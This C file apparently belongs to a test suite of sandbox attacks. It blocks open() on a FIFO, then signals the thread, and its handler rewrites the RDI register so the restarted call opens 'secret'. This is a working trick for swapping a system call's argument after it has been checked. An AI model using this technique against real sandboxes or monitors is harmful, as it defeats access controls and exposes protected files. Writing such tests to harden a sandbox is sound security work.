// SPDX-License-Identifier: Apache-2.0
// As A15, but the handler changes the registers that the restarted call is made with.
#include "attack.h"
#include <ucontext.h>

static pthread_t opener;

static void *interrupt(void *arg)
{
	char path[64], state[512];
	// The opener waits in the FIFO when it sleeps in its call.
	snprintf(path, sizeof path, "/proc/self/task/%d/stat", *(volatile int *)arg);
	for (;;) {
		int fd = open(path, O_RDONLY);
		ssize_t n = read(fd, state, sizeof state - 1);
		close(fd);
		if (n > 0) {
			state[n] = 0;
			char *p = strrchr(state, ')');
			if (p && p[2] == 'S')
				break;
		}
		sched_yield();
	}
	for (;;) { // until it has an effect: under a tracer S may be another sleep
		pthread_kill(opener, SIGUSR1);
		usleep(20000);
	}
	return NULL;
}

static void handler(int sig, siginfo_t *info, void *context)
{
	(void)sig, (void)info;
	ucontext_t *u = context;
	static char fifo[] = "fifo", secret[] = "secret";
	(void)fifo;
	u->uc_mcontext.gregs[REG_RDI] = (greg_t)secret;
}

int main(void)
{
	struct sigaction sa = {.sa_sigaction = handler, .sa_flags = SA_RESTART | SA_SIGINFO};
	sigaction(SIGUSR1, &sa, NULL);
	must(mkfifo("fifo", 0600), "mkfifo");
	opener = pthread_self();
	static int tid;
	tid = gettid();
	start(interrupt, &tid);
	verdict_secret((int)syscall(SYS_open, "fifo", O_RDONLY));
}
